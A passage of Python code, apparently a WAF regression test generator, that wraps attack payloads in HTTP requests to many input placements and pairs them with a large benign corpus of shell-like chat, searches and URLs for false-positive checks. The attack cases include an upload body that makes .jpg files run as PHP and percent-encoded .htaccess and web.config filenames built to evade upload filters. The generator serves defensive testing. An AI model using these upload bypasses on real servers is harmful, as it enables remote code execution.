        return all(c in "\t\n\r" or ord(c) >= 0x20 for c in p.text)
    return True


def _pick(pool: list[str], start: int, p: P) -> str:
    for k in range(len(pool)):
        place = pool[(start + k) % len(pool)]
        if _fits(place, p):
            return place
    raise ValueError(f"no placement for {p.text!r} in {pool}")


def _xml_text(p: P) -> str:
    if p.wire and p.only == "xml":
        return p.text
    return p.text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _json_body(prefix: dict[str, str], name: str, p: P) -> str:
    doc = json.dumps(prefix, ensure_ascii=False)[:-1]
    sep = ", " if prefix else ""
    value = '"' + p.text + '"' if p.only == "json" else json.dumps(p.text, ensure_ascii=False)
    return doc + sep + json.dumps(name) + ": " + value + "}"


def _multipart(fields: list[tuple[str, str]], file_name: str | None = None, ext: bool = False) -> str:
    parts = []
    for k, v in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n")
    if file_name is not None:
        disp = f"filename*=UTF-8''{file_name}" if ext else f"filename=\"{file_name}\""
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"upload\"; {disp}\r\n"
                     "Content-Type: application/octet-stream\r\n\r\nOptions +ExecCGI\nAddType application/x-httpd-php"
                     " .jpg\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _headers(extra: dict[str, str] | None = None, ctype: str | None = None) -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if ctype:
        h["Content-Type"] = ctype
    return {**h, **(extra or {})}


def _cookie_value(p: P, raw: bool) -> str:
    if p.wire or (raw and _header_safe(p.text) and not any(c in p.text for c in ";, \t\"\\")):
        return p.text
    return urllib.parse.quote(p.text, safe="")


def ours(place: str, name: str, p: P) -> dict[str, Any]:
    """The payload in one of our routes' inputs."""
    name = p.name or name
    if place == "query":
        return _get("/api/users?" + urllib.parse.quote(name, safe="[]") + "=" + _enc(p) + "&page=1")
    if place == "form":
        body = "csrf_token=t0k3n&" + urllib.parse.quote(name, safe="[]") + "=" + _enc(p)
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": _headers(ctype="application/x-www-form-urlencoded")}
    if place == "json":
        return {"method": "POST", "uri": "/api/users", "body": _json_body({"email": "a@example.org"}, name, p),
                "headers": _headers(ctype="application/json")}
    if place == "cookie":
        return {**_get("/api/users?page=1"),
                "headers": _headers({"Cookie": f"session=abc123; {name}={_cookie_value(p, False)}"})}
    if place.startswith("header:"):
        return {**_get("/api/users?page=1"), "headers": _headers({place.split(":", 1)[1]: p.text})}
    if place == "param-name":
        return _get("/api/users?" + _enc(p) + "=1&page=1")
    if place == "xml":
        body = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><email>a@example.org</email><{_tag(name)}>" \
               f"{_xml_text(p)}</{_tag(name)}></user>"
        return {"method": "POST", "uri": "/api/users", "body": body, "headers": _headers(ctype="application/xml")}
    if place == "multipart-field":
        return {"method": "POST", "uri": "/admin/users/search",
                "body": _multipart([("csrf_token", "t0k3n"), (name, p.text)]),
                "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}")}
    if place == "multipart-filename":
        return {"method": "POST", "uri": "/admin/users/42/avatar",
                "body": _multipart([("csrf_token", "t0k3n")], p.text),
                "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}")}
    if place == "path":
        if name in LFI_NAMES:
            return _get("/admin/" + (p.text if p.wire else urllib.parse.quote(p.text, safe="" if ".." in p.text
                                                                              else "/.;:$~")))
        return _get("/api/users/" + (p.text if p.wire else urllib.parse.quote(p.text, safe="")))
    raise ValueError(place)


def _tag(name: str) -> str:
    return "".join(c if c.isalnum() or c == "_" else "_" for c in name) or "v"


def rs(place: str, path: str, name: str, p: P) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it, to a path that is not one of our routes."""
    name = p.name or name
    if place == "rs-query":
        return _get(path + "?" + urllib.parse.quote(name, safe="[]") + "=" + _enc(p))
    if place == "rs-form":
        return {"method": "POST", "uri": path, "body": urllib.parse.quote(name, safe="[]") + "=" + _enc(p),
                "headers": _headers(ctype="application/x-www-form-urlencoded")}
    if place == "rs-json":
        return {"method": "POST", "uri": path, "body": _json_body({}, name, p),
                "headers": _headers(ctype="application/json")}
    if place == "rs-xml":
        return {"method": "POST", "uri": path, "body": f"<root><{_tag(name)}>{_xml_text(p)}</{_tag(name)}></root>",
                "headers": _headers(ctype="text/xml")}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": p.text,
                "headers": _headers(ctype="application/x-www-form-urlencoded")}
    if place.startswith("rs-header:"):
        return {**_get(path), "headers": _headers({place.split(":", 1)[1]: p.text})}
    if place == "rs-cookie":
        return {**_get(path), "headers": _headers({"Cookie": f"{name}={_cookie_value(p, True)}"})}
    if place == "rs-path":
        return _get("/" + (p.text if p.wire else urllib.parse.quote(p.text, safe="/.;:$~")))
    if place == "rs-multipart-filename":
        return {"method": "POST", "uri": "/upload.php", "body": _multipart([("submit", "Upload")], p.text),
                "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}")}
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s_index, (category, sub, payloads, ours_pool, rs_pool, names) in enumerate(SUBS):
        for i, spec in enumerate(payloads):
            p = _spec(spec)
            place = _pick(ours_pool, i + s_index, p)
            n += 1
            yield {**ours(place, names[(i + s_index) % len(names)], p), "id": f"{NAME}-{category}-{n:04d}",
                   "category": category, "sub": sub, "placement": place, "payload": p.text}
            place = _pick(rs_pool, i + 2 * s_index, p)
            n += 1
            path = "/upload.php" if place == "rs-multipart-filename" else RS_PATHS[(i + s_index) % len(RS_PATHS)]
            yield {**rs(place, path, RS_NAMES[(i + 2 * s_index) % len(RS_NAMES)], p),
                   "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub, "placement": place,
                   "payload": p.text}
    # the filename* form (RFC 5987) of restricted upload names, which multipart parsers percent-decode
    for name in ("%2Ehtaccess", "web.confi%67", ".user%2Eini"):
        n += 1
        yield {"method": "POST", "uri": "/admin/users/42/avatar",
               "body": _multipart([("csrf_token", "t0k3n")], name, ext=True),
               "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}"),
               "id": f"{NAME}-rce-{n:04d}", "category": "rce", "sub": "restricted-file-upload",
               "placement": "multipart-filename", "payload": name}


# ------------------------------------------------------------------------------------------------- benign
CHAT = [
    "can someone cat the nginx error log on staging and paste the last 20 lines?",
    "run `ls -la` in the deploy dir, I think the symlink is wrong",
    "ping me when the build is green",
    "I'll ping the on-call person, they know the DNS setup",
    "the id of the new channel is C024BE91L",
    "uname says 6.1, so the kernel is new enough",
    "who am I kidding, I'll be late to standup again",
    "whoami returns the service account, as expected",
    "for each customer we send one invoice; if none exist we skip",
    "if exist checks in our old batch scripts are gone since the migration",
    "for /f loops in batch files were always painful, glad we moved to Python",
    "PowerShell 7 is installed on the build agents now",
    "Invoke-WebRequest is slow on Windows PowerShell 5.1, use curl.exe instead",
    "the Get-ChildItem output is in the ticket",
    "wget is not installed on the slim image; use curl -fsSL",
    "curl -s https://api.example.com/health | jq .status",
    "the sleep 10 in the entrypoint is a hack, we should use a readiness probe",
    "python -m venv .venv && source .venv/bin/activate",
    "perl is still used by the old log rotation script",
    "our bash scripts now start with set -euo pipefail",
    "the /etc/hosts entry for the db is only on the jump box",
    "don't commit the .env file, it's in .gitignore for a reason",
    "the .htaccess rules were ported to nginx last year",
    "web.config transforms are only for the legacy IIS app",
    "the wp-config.php on the marketing site needs the new salts",
    "we moved the docs from ../docs to docs/ at the repo root",
    "relative imports like ../utils are banned by the linter now",
    "the path is src/components/../common-ui? no, it's src/common-ui",
    "I copied the file to C:\\Users\\Public\\Documents for the demo",
    "the Windows build writes logs to C:\\ProgramData\\Acme\\logs",
    "the tar cf backup of /var/lib/postgres finished at 03:10",
    "find . -name '*.pyc' -delete cleans it up",
    "chmod 600 on the key file, ssh refuses otherwise",
    "the nc command is handy for checking if a port is open",
    "netstat is deprecated, use ss -tlnp",
    "ipconfig /flushdns fixed it on my laptop",
    "net use mapping of the shared drive works again",
    "tasklist showed two java processes, I killed the old one",
    "systeminfo says the VM has 16 GB",
    "certutil is how we check the cert hash on Windows",
    "reg query is read-only, it's safe to run",
    "the schtasks job runs the report at 6am",
    "email the SMTP relay team, MAIL FROM is rejected for the new domain",
    "IMAP login fails for the shared mailbox, check the app password",
    "POP3 is disabled on the mail server, use IMAP",
    "RCPT TO limits are 100 recipients per message",
    "the HELO name must match the reverse DNS",
    "sqlite is fine for the local cache, .schema shows the tables",
    "use .mode csv then .import in sqlite to load the file",
    "the alias for kubectl is k in my shell",
    "history | grep deploy shows what I ran yesterday",
    "the !! trick reruns the last command with sudo",
    "set -x shows each command as it runs",
    "a $(date) in the filename gives each backup a unique name",
    "the ${HOME} variable is not set in cron jobs",
    "the template uses ${name} placeholders, not f-strings",
    "backticks in markdown make inline code, like `npm test`",
    "Shellshock was in 2014, our bash is long patched",
    "the upload form only accepts .png and .jpg",
    "I uploaded config.yml to the wiki page for reference",
    "the IP of the new build box is 10.20.30.40",
    "the vendor's API is at https://api.vendor.example/v2",
    "see http://203.0.113.10/status for the lab box (internal)",
    "the include directive in nginx pulls conf.d/*.conf",
    "include the page number in the report footer",
    "the template file is templates/email/welcome.html",
    "the page param defaults to 1 and the limit to 50",
    "the file picker shows hidden files if you press cmd+shift+.",
    "the RFI process for the vendor (request for information) closes Friday",
    "the RCE meeting (regional customer events) is moved to Tuesday",
    "LFI stands for low frequency interference in the radio team's notes",
    "our 'cmd' key binding conflicts with the terminal",
    "type 'dir' in cmd or 'ls' in bash, same thing",
    "the cat in the office is called Root, no joke",
    "lunch: pizza or sushi? vote with emojis",
    "I'm out tomorrow; Maria covers the support queue",
    "the dashboards for the id service are in Grafana",
    "please rerun the failing test, it's flaky",
    "the echo in the conference room is awful",
    "the ruby gem for the client is pinned to 2.3",
    "the PHP 7.4 app still runs on the old cluster",
    "composer install takes forever behind the proxy",
    "Node's child_process docs explain exec vs spawn",
    "the exec summary for Q3 is in the drive",
    "the system tray icon disappeared after the update",
    "the shell in the container is /bin/sh, there is no bash",
    "/usr/bin/env python3 is the shebang we use",
    "the binary is in /usr/local/bin after make install",
    "passwd expiry is 90 days for the admin accounts",
    "the shadow IT report is due next week",
    "group permissions are managed in the directory, not /etc/group",
    "the environ file of a process is under /proc, useful for debugging",
    "access.log rotation happens daily",
    "the .git folder should never be deployed to the web root",
    "the .svn directories are gone since we moved to git",
    "the .DS_Store files keep showing up in PRs, add them to .gitignore",
    "bash_history is disabled on the bastion",
    "aws credentials go in the vault, never in files",
    "the hosts file on Windows is under System32\\drivers\\etc",
    "win.ini is a relic, nobody reads it anymore",
    "boot.ini was replaced by BCD in Vista",
    "the SAM database holds local accounts on Windows",
    "web.xml lists the servlets of the old Java app",
    "php.ini sets upload_max_filesize to 20M",
    "the .user.ini trick is for shared hosting, we don't need it",
    "global.asa belonged to classic ASP, the app is long gone",
    "htpasswd -c creates the file, careful not to overwrite it",
    "the tee command writes to the file and stdout",
    "sed -i on macOS needs an empty string argument",
    "awk '{print $1}' gives the first column",
    "xargs -n1 runs one command per line",
    "dd is the disk destroyer if you swap if and of",
    "od -c shows the hidden characters in the file",
    "w shows who is logged in on the box",
    "df -h says the disk is 91% full",
    "ps aux | grep node shows three workers",
    "the at command schedules one-off jobs",
    "su is disabled, use sudo",
    "env | sort helps diff the two environments",
    "printenv PATH shows /usr/local/bin first",
    "the for loop in the migration script takes 40 minutes",
    "if the nightly fails, retry once and then page",
    "the do-while loop in the parser never ends on empty input",
    "the IF function in the spreadsheet needs a third argument",
    "FOR UPDATE locks the rows until commit",
    "the regsvr32 step is part of the old installer",
    "mshta is blocked by the endpoint policy, good",
    "bitsadmin is deprecated, use BITS cmdlets",
    "wmic is being removed from Windows 11",
    "the rundll32 error popped up after the driver install",
    "findstr is the Windows grep",
    "the encoded command feature of powershell is blocked by policy",
    "the ExecutionPolicy is RemoteSigned on dev machines",
    "Start-Process with -Verb RunAs asks for elevation",
    "Set-MpPreference is managed by Intune, don't change it locally",
    "ComSpec points to cmd.exe on every Windows box",
]

SEARCHES = [
    "cat food", "catalog 2024", "ls-120 speaker", "id card renewal", "uname", "ping pong table",
    "whoami podcast", "for sale", "if only", "power shell", "net user guide", "dir en grey",
    "type c charger", "curl bar", "wget", "sleep apnea", "python tutorial", "perl jam",
    "bash party", "sh", "sed", "awk", "echo dot", "tar heels", "find my phone", "chmod calculator",
    "nc state", "ps5", "df", "w", "su", "at home", "od", "dd form", "env file", "history of rome",
    "alias grace", "fc barcelona", "etc", "passwd", "shadow of the colossus", "hosts", "group chat",
    "environ", "proc", "boot", "win ini", "system32", "config", "web config", "htaccess",
    "git config", "env", "svn", "ds store", "aws credentials", "ssh key", "bash history",
    "../ relative path", "./configure", "C:\\Windows", "/etc", "/usr/local/bin", "/bin",
    "include", "page 2", "file upload", "template", "http://example.com", "https://example.org/docs",
    "ftp", "mosConfig", "root path", "document root", "gallery", "phpbb", "appserv",
    "shellshock", "cve-2014-6271", "function() {}", "() => {}", "{ :; }", "RCPT", "MAIL FROM",
    "HELO", "IMAP", "POP3", "USER", "PASS", "RETR", "DELE", "LIST", "STAT", "sqlite .schema",
    ".system", ".shell", "load extension", "edit", "powershell -c", "Invoke-WebRequest", "iex",
    "Get-ChildItem", "cmd /c", "for /f", "if exist", "set", "call", "start", "copy", "del",
    "certutil", "reg", "net", "ipconfig", "systeminfo", "tasklist", "netstat", "schtasks",
    "O'Brien", "Smith & Sons", "a;b", "x|y", "left && right", "this || that", "$100", "`tick`",
]

PROSE = [
    "Please cat-sit for me while I'm away; the id tag is on the collar.",
    "For the record, if anyone asks, we ship on Thursday.",
    "The shell company was registered in 2019; see the filing.",
    "Order #1042 | Status: shipped | Carrier: UPS",
    "Tom & Jerry; Bonnie & Clyde; salt & pepper",
    "Meeting notes: (1) budget, (2) hiring; (3) offsites",
    "Price list: $10 per seat, $(8) for nonprofits (see footnote)",
    "Address: 10 Pipe Lane | Apt 3 | Bash, Sussex",
    "The Windows team will net use the share during the migration.",
    "Dear team, the power shell of the new case is aluminium.",
    "Subject: RCPT of your invoice; kindly confirm",
    "The user's mail client sends HELO on connect, per the logs we received.",
    "See chapter ../3 of the handbook (relative to this one).",
    "Download the brochure at https://www.example.com/brochure.pdf",
    "Images are under /static/img/ and styles under /static/css/",
    "The sample path C:\\Program Files\\Acme\\app.exe is the default.",
    "Please include the page numbers and the file names in the appendix.",
    "Reference: https://docs.example.org/guide?section=install",
    "The history of the alias system in our naming scheme is documented.",
    "Who am I? A question for the philosophy club.",
    "The sleep study results arrive in 10 days.",
    "We id the boxes by their barcode; then ls-tag them.",
    "The env team (environment) meets on Mondays.",
    "Passwords must be rotated; /etc is not a place for notes.",
    "If exist-ing customers renew, they get 10% off.",
    "For loyalty members: double points in May.",
    "The system will be down for maintenance on Saturday 02:00-04:00 UTC.",
    "Execute the plan in three phases; evaluate after each.",
    "The web config team meets in room 4.",
    "The .env-style settings are now in the admin panel.",
]

URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://github.com/acme/api/blob/main/.github/workflows/ci.yml",
    "https://github.com/acme/api/tree/main/docs/../README.md",
    "https://example.com/files/report.pdf?download=1",
    "https://cdn.example.org/assets/app.js?v=2024.1",
    "https://api.example.com/v1/items?page=2&limit=50",
    "https://example.com/include/header.html",
    "https://example.com/page.php?id=42",
    "https://example.com/search?q=cat+food",
    "https://203.0.113.20/status",
    "http://198.51.100.7:8080/dashboard",
    "https://example.com/docs/windows/cmd-reference",
    "https://example.com/blog/2024/05/powershell-tips",
    "https://example.com/shop?category=shell&color=blue",
    "https://example.com/etc/about-us",
    "https://example.com/?ref=newsletter",
    "https://maps.example.com/?q=10+Downing+Street",
    "https://www.example.co.uk/products/power-shell-case",
    "https://hooks.slack.com/services/T000/B000/XXXX",
    "ftp://ftp.example.org/pub/README",
    "https://example.com/a/b/c/d/e/index.html",
    "https://docs.example.com/bin/manual",
    "https://example.com/downloads/setup.exe",
    "https://example.com/wiki/Shellshock_(software_bug)",
    "https://example.com/users/id/42",
    "https://example.com/?page=about",
    "https://example.com/?file=brochure.pdf",
    "https://example.com/template/default",
    "https://example.com/img/cat.png",
    "https://example.com/sleep-tips",
    "https://example.com/whoami",
]

UPLOAD_NAMES = [
    "report.pdf", "avatar.png", "IMG_2024_0412.jpg", "resume (final).docx", "budget-2025.xlsx",
    "htaccess-migration-notes.md", "web-config-guide.pdf", "env-setup.txt", "config.sample.yml",
    "holiday photo.jpeg", "scan_0001.tiff", "notes.txt", "slides.key", "logo.svg", "invoice_1042.pdf",
    "user-ini-explained.pdf", "php-ini-checklist.txt", "git-config-cheatsheet.png", "passwd-policy.pdf",
    "hosts-inventory.csv",
]

BENIGN_AGENTS = [
    "curl/8.4.0", "python-requests/2.31.0", "Wget/1.21.4", "PostmanRuntime/7.36.0",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3570",
    "Go-http-client/2.0", "okhttp/4.12.0", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)", "Ruby", "libwww-perl/6.72", "Java/17.0.2", "axios/1.6.7",
]
BENIGN_REFERERS = [
    "https://www.google.com/", "https://app.example.com/admin/users?page=3", "https://example.com/docs/../faq",
    "https://intranet.example.com/tools/shell-tips", "https://example.com/search?q=cat+%26+dog",
    "https://learn.microsoft.com/en-us/powershell/", "https://www.sqlite.org/cli.html",
    "https://example.com/page.php?file=report.pdf", "http://localhost:3000/admin/", "https://t.co/abc123",
]

JSON_DOCS: list[dict[str, Any]] = [
    {"name": "Cat Stevens", "bio": "singer; songwriter | folk"},
    {"name": "Ann", "path": "docs/getting-started.md"},
    {"name": "Ann", "path": "../assets/logo.svg"},
    {"name": "Bob", "home_dir": "/home/bob"},
    {"name": "Bob", "shell": "/bin/bash"},
    {"name": "Eve", "os": "Windows 11", "install_dir": "C:\\Program Files\\Acme"},
    {"name": "Eve", "command": "npm run build"},
    {"name": "Ivan", "script": "make test && make lint"},
    {"name": "Lee", "cron": "0 3 * * * /usr/local/bin/backup.sh"},
    {"name": "Lee", "website": "https://lee.example.com/?ref=profile"},
    {"name": "Mia", "email": "mia@example.com", "mailbox": "INBOX"},
    {"name": "Mia", "smtp_host": "smtp.example.com", "imap_host": "imap.example.com"},
    {"name": "Noor", "title": "if / for / while - control flow basics"},
    {"name": "Noor", "title": "PowerShell for sysadmins"},
    {"name": "Omar", "snippet": "for i in range(10): print(i)"},
    {"name": "Omar", "snippet": "if (x > 1) { return y; }"},
    {"name": "Pia", "template": "welcome_email.html", "page": 2},
    {"name": "Pia", "file": "quarterly-report.pdf", "include": ["header", "footer"]},
    {"name": "Raj", "env": "production", "region": "eu-west-1"},
    {"name": "Raj", "alias": "raj.k", "history": "joined 2021"},
    {"name": "Sam", "note": "the cat ate the id badge"},
    {"name": "Sam", "note": "who am I to judge"},
    {"name": "Tao", "db": "sqlite", "file": "cache.db"},
    {"name": "Tao", "url": "http://203.0.113.5:9000/health"},
    {"name": "Uma", "address": "12 Pipe St | Unit 4", "city": "Bash"},
    {"name": "Uma", "phone": "+44 20 7946 0958"},
    {"name": "Vic", "price": "$(10)", "discount": "${promo}"},
    {"name": "Vic", "tags": ["shell", "powershell", "bash", "cmd"]},
    {"name": "Wen", "filename": "config.yml"},
    {"name": "Wen", "filename": "hosts.csv"},
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES),
                            f"{NAME}-adminsearch", n, "form")
    n = yield from numbered((_json("/api/users/search", {"query": s, "limit": 20}) for s in SEARCHES),
                            f"{NAME}-apisearch", n, "json")
    uploads = ({"method": "POST", "uri": "/admin/users/42/avatar",
                "body": _multipart([("csrf_token", "t0k3n"), ("caption", name)], name),
                "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}")} for name in UPLOAD_NAMES)
    n = yield from numbered(uploads, f"{NAME}-upload", n, "multipart-filename")
    agents = ({**_get("/api/users?page=1"), "headers": {"User-Agent": ua, "Accept": "application/json"}}
              for ua in BENIGN_AGENTS)
    n = yield from numbered(agents, f"{NAME}-agent", n, "header:User-Agent")
    refs = ({**_get("/api/users?page=2"), "headers": _headers({"Referer": ref})} for ref in BENIGN_REFERERS)
    n = yield from numbered(refs, f"{NAME}-referer", n, "header:Referer")
    yield from numbered((_json("/api/users", doc) for doc in JSON_DOCS), f"{NAME}-profile", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
